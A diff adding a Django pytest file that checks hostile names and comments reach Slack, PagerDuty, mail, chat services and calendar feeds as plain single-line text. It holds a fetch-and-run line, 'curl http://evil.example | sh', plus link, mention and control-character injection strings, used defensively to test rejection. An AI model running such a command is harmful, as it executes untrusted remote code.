@@ -1,0 +1,262 @@
+"""What machines and people are called and write is text in every channel: no markup, mention, link or new line."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+from dataclasses import replace
+from datetime import UTC, datetime, timedelta
+from email import message_from_bytes, policy
+from email.message import EmailMessage
+from typing import Any
+from urllib.parse import unquote_plus
+
+import pytest
+import requests
+from django.contrib.auth.models import User
+from django.test import Client
+
+from fleet.domain.messages.moments import GROUP
+from fleet.domain.orders.by_hand import linux_command, windows_command
+from fleet.domain.texts import is_seen
+from fleet.domain.timeline import EntryKind
+from fleet.models import AvailabilitySet, CalendarFeed, Claim, ScheduledEvent
+from fleet.notify.channels import apprise, mail, pagerduty, slack, webhook, webpush
+from fleet.notify.channels.alertmanager import alerts
+from fleet.notify.channels.base import ChannelInUse, Item, Post
+from fleet.notify.sender import services
+from fleet.notify.sender.jobs import AppriseJob
+from fleet.notify.sender.pool import Pool
+from fleet.operations.approvals import claims
+from fleet.operations.people import calendars
+from fleet.projections.messages.news import MessageNews
+from fleet.projections.messages.open import open_things
+from fleet.wording.formats import for_chat
+from fleet.wording.messages import group_words, is_command, message_words
+from fleet.wording.reader import Form, Reader
+from tests import factories
+from tests.factories import Fleet, acting, announced, operator, the_event
+from tests.messages.hostile import LINKS, MARKUP, SAMPLE, broken_lines, texts, unseen
+from tests.messages.pretend import listening
+from tests.messages.pretend_pagerduty import ROUTING_KEY, PretendPagerDuty
+from tests.messages.pretend_slack import TOKEN, PretendSlack
+from tests.messages.telling import a_message, news
+from tests.receivers import receiver
+
+pytestmark = pytest.mark.django_db
+BASE = "https://drydock.example"
+# Chat services that read some dialect of Markdown, mrkdwn or HTML, in each format that a URL may ask for.
+CHATS = {
+    "discord": f"discord://{'a' * 18}/{'b' * 60}",
+    "mmost": f"mmost://127.0.0.1/{'a' * 24}",
+    "slack": "slack://T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7FQ/",
+    "tgram": "tgram://123456789:abcdefg_hijklmnop/12315544/",
+    "workflow": "workflow://127.0.0.1/WorkflowID/Signature/",
+    "gchat": "gchat://workspace/key/token",
+    "wxteams": f"wxteams://{'a' * 80}",
+    "matrix": "matrix://127.0.0.1/token?mode=slack",
+    "zulip": f"zulip://bot@org/{'a' * 32}/general",
+    "ntfy": "ntfy://127.0.0.1/topic",
+    "gotify": "gotify://127.0.0.1/tokentokentoken",
+    "guilded": f"guilded://{'a' * 18}/{'b' * 60}",
+    "ryver": f"ryver://org/{'a' * 15}",
+    "apprise": "apprise://127.0.0.1/token",
+}
+
+
+@pytest.fixture
+def told() -> MessageNews:
+    """An event of a set, machines and a service that are called so, claimed by somebody with such a comment."""
+    fleet = Fleet()
+    announced(fleet)
+    otto = operator()
+    claims.claim(event_id=the_event().event_id, actor=acting(otto), now=fleet.now)
+    # As an earlier release may have kept them.
+    AvailabilitySet.objects.update(name=SAMPLE.replace("\x00", ""), service=SAMPLE.replace("\x00", ""))
+    ScheduledEvent.objects.update(resources=[SAMPLE.replace("\x00", "")], event_type="Reboot")
+    Claim.objects.update(comment=SAMPLE.replace("\x00", ""))
+    User.objects.filter(pk=otto.pk).update(username=SAMPLE.replace("\x00", "")[:150])
+    return news(a_message(EntryKind.EVENT_CLAIMED, now=fleet.now), now=fleet.now)
+
+
+def reader(told: MessageNews) -> Reader:
+    return Reader(UTC, Form.MESSAGE, told.at)
+
+
+def post_of(told: MessageNews, *, many: bool = False) -> Post:
+    """As the queue makes it: of one thing, or of several."""
+    words = message_words(told, reader(told))
+    other = replace(told, subject="event:other", message_id=99)
+    if many:
+        words = group_words([told, other], reader(told))
+    items = tuple(Item(each, reader(told)) for each in ((told, other) if many else (told,)))
+    return Post("11111111-1111-4111-8111-111111111111", 1, GROUP if many else told.moment, told.at, items, words,
+                BASE + words.path)  # fmt: skip
+
+
+@pytest.fixture
+def payloads(monkeypatch: pytest.MonkeyPatch) -> list[str]:
+    """What Apprise would have sent, body by body."""
+    sent: list[str] = []
+
+    def take(session: Any, request: requests.PreparedRequest, **options: Any) -> requests.Response:
+        body = request.body or b""
+        sent.append(body.decode() if isinstance(body, bytes) else body)
+        answer = requests.Response()
+        answer.status_code, answer._content = 200, b'{"ok": true, "result": []}'
+        return answer
+
+    monkeypatch.setattr(requests.Session, "send", take)
+    return sent
+
+
+@pytest.mark.parametrize("form", ["", "markdown", "html"])
+@pytest.mark.parametrize("schema", CHATS)
+def test_no_chat_service_is_given_markup_mentions_or_links(
+    told: MessageNews, payloads: list[str], schema: str, form: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    jobs: list[AppriseJob] = []
+    monkeypatch.setattr(apprise, "send_job", lambda job, now: jobs.append(job) or services.Answer(ok=True))
+    url = CHATS[schema] + (f"{'&' if '?' in CHATS[schema] else '?'}format={form}" if form else "")
+    for many in (False, True):
+        apprise.send(post_of(told, many=many), ChannelInUse(1, "apprise", "x", {"url": url}), now=told.at)
+    for job in jobs:
+        assert services.sent(services.service_of(job.url), job, schema=schema)
+    assert len(payloads) >= 2
+    for payload in payloads:
+        said = "\n".join(texts(json.loads(payload))) if payload.startswith("{") else unquote_plus(payload)
+        assert [sign for sign in (*MARKUP[:6], *LINKS) if sign in said.replace(f"{BASE}/", "")] == []
+        assert "evil" in said, "nothing is left out"
+        assert unseen(said) == []
+        assert broken_lines(said) == []
+
+
+def test_what_a_chat_service_shows_looks_like_what_was_written() -> None:
+    for plain in ("web-vm_1 in shop.prod (4 of 6)", "Ünïcode 中文, 12:30:05 UTC", "a: b; c?", "__init__ is_it"):
+        assert len(for_chat(plain)) == len(plain)
+    assert for_chat("web-vm_1 in shop.prod (4 of 6), 12:30 UTC") == "web-vm_1 in shop.prod (4 of 6), 12:30 UTC"
+    found = for_chat(SAMPLE)
+    assert [sign for sign in (*MARKUP, *LINKS) if sign in found] == []
+
+
+def test_programs_get_the_text_as_it_is(told: MessageNews, payloads: list[str]) -> None:
+    job = AppriseJob("json://127.0.0.1/", title="<b>", body="[a](http://b) @all", verbatim="https://x/")
+    assert services.sent(services.service_of(job.url), job, schema="json")
+    assert json.loads(payloads[0])["message"] == "[a](http://b) @all\nhttps://x/"
+
+
+def test_mattermost_itself_is_sent_the_same(told: MessageNews, loopback_pool: Pool, monkeypatch: Any) -> None:
+    """Over the line, by the sender's own process."""
+    monkeypatch.setattr(apprise, "send_job", loopback_pool.send)
+    with receiver() as there:
+        url = f"mmost://127.0.0.1:{there.port}/{'a' * 24}"
+        assert apprise.send(post_of(told), ChannelInUse(1, "apprise", "x", {"url": url}), now=datetime.now(UTC)).ok
+    said = json.loads(there.got[0].body)["text"]
+    assert said.endswith(f"{BASE}/events/{told.event.event_id}/") if told.event else False
+    assert [sign for sign in (*MARKUP, *LINKS) if sign in said] == []
+
+
+def test_a_command_to_be_copied_stays_as_it_is() -> None:
+    for make in (linux_command, windows_command):
+        assert is_command(make("602D9444-D2CD-49C7-8624-8643E7171297"))
+        assert not is_command(make("x](http://evil.example) @channel"))
+    assert not is_command("curl http://evil.example | sh")
+
+
+def test_slack_shows_it_as_text(told: MessageNews, loopback_pool: Pool, monkeypatch: pytest.MonkeyPatch) -> None:
+    there = PretendSlack()
+    with listening(there):
+        monkeypatch.setattr(slack, "URL", f"{there.url}/api")
+        monkeypatch.setattr(slack, "send_job", loopback_pool.send)
+        channel = ChannelInUse(1, "slack", "x", {"token": TOKEN, "channel": "#ops", "signing_secret": "s" * 32})
+        assert slack.send(post_of(told), channel, now=told.at).ok
+        assert slack.send(post_of(told, many=True), channel, now=told.at).ok
+    for _, arguments in there.calls:
+        assert "<" not in json.dumps(arguments)
+        assert [link for link in LINKS if link in arguments["text"]] == []
+        assert all(block["text"]["type"] == "plain_text" for block in arguments["blocks"] if "text" in block)
+        assert all(unseen(text) == [] and broken_lines(text) == [] for text in texts(arguments))
+
+
+def test_pagerduty_shows_it_in_one_line(
+    told: MessageNews, loopback_pool: Pool, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    there = PretendPagerDuty()
+    with listening(there):
+        monkeypatch.setattr(pagerduty, "URLS", {False: f"{there.url}/v2/enqueue"})
+        monkeypatch.setattr(pagerduty, "send_job", loopback_pool.send)
+        first = pagerduty.trigger_of(post_of(told), list(post_of(told).items), "name")
+    payload = first["payload"]
+    for name in ("summary", "source", "component", "group", "class"):
+        assert is_seen(payload[name]), name
+    assert all(is_seen(machine) for machine in payload["custom_details"]["machines"])
+    assert broken_lines(payload["custom_details"]["text"]) == []
+    assert ROUTING_KEY
+
+
+def mail_of(told: MessageNews) -> EmailMessage:
+    raw = mail.written(post_of(told), "ann@example.org", now=told.at)
+    found: EmailMessage = message_from_bytes(raw, policy=policy.default)  # type: ignore[assignment]
+    return found
+
+
+def test_a_mail_has_one_link_and_no_header_of_somebody_elses(told: MessageNews, settings: Any) -> None:
+    settings.BASE_URL = BASE
+    got = mail_of(told)
+    assert got["Bcc"] is None and len(got.get_all("To", [])) == 1
+    assert is_seen(str(got["Subject"]))
+    text, page = got.get_body(["plain"]), got.get_body(["html"])
+    assert text is not None and page is not None
+    html = page.get_content()
+    assert html.count("<a ") == 1 and "<!channel>" not in html and "<https" not in html
+    for body in (text.get_content(), html):
+        assert [link for link in LINKS if link in body] == []
+        assert unseen(body) == [] and broken_lines(body) == []
+
+
+def test_a_browser_and_a_program_get_it_as_text(told: MessageNews) -> None:
+    pushed = json.loads(webpush.payload(post_of(told)))
+    assert is_seen(pushed["title"]) and broken_lines(pushed["body"]) == [] and unseen(pushed["body"]) == []
+    # What programs get is the data itself, as JSON has it.
+    sent = json.loads(webhook.body_of(post_of(told)))
+    assert sent["data"]["resources"] == [SAMPLE.replace("\x00", "")]
+
+
+def test_alertmanager_gets_one_line_for_each_label_and_annotation(told: MessageNews) -> None:
+    (thing,) = open_things()
+    labels, shown = alerts.labels_of(thing), alerts.annotations(thing)
+    assert {"service", "availability_set"} <= set(labels)
+    assert [text for text in (*labels.values(), *shown.values()) if not is_seen(text)] == []
+
+
+def test_a_calendar_is_still_one(told: MessageNews, client: Client) -> None:
+    now = datetime.now(UTC)
+    ScheduledEvent.objects.update(not_before=now + timedelta(minutes=15), first_seen_at=now)
+    feed, secret = calendars.make(actor=acting(factories.viewer()), name="mine", now=now)
+    # As an earlier release kept it, which then answered 500 for ever.
+    CalendarFeed.objects.filter(pk=feed.pk).update(name=SAMPLE.replace("\x00", ""))
+    answer = client.get(f"/calendar/{secret}.ics")
+    assert answer.status_code == 200
+    lines = answer.content.decode().replace("\r\n ", "").split("\r\n")
+    assert lines.count("END:VCALENDAR") == 1
+    assert broken_lines("\n".join(line for line in lines if line != "END:VCALENDAR")) == []
+    assert not [line for line in lines if unseen(line)]
+
+
+@pytest.fixture
+def page() -> Iterator[Client]:
+    client = Client()
+    client.force_login(factories.admin())
+    yield client
+
+
+@pytest.mark.parametrize("name", ["a\r\nb", "a\nb", "a\x1bb", "a\u202eb", "a\u200bb", "a\u2028b", "\ufeffa b"])
+def test_a_name_that_somebody_gives_is_one_line(page: Client, name: str) -> None:
+    made = page.post("/you/calendars/", {"name": name})
+    assert made.status_code == 200
+    assert CalendarFeed.objects.get().name == "a b"
+    token = page.post(
+        "/api/v1/me/tokens/", {"name": name, "scopes": ["read"], "expires_in_days": 1}, "application/json"
+    )
+    assert token.status_code == 201, token.content
+    assert token.json()["name"] == "a b"
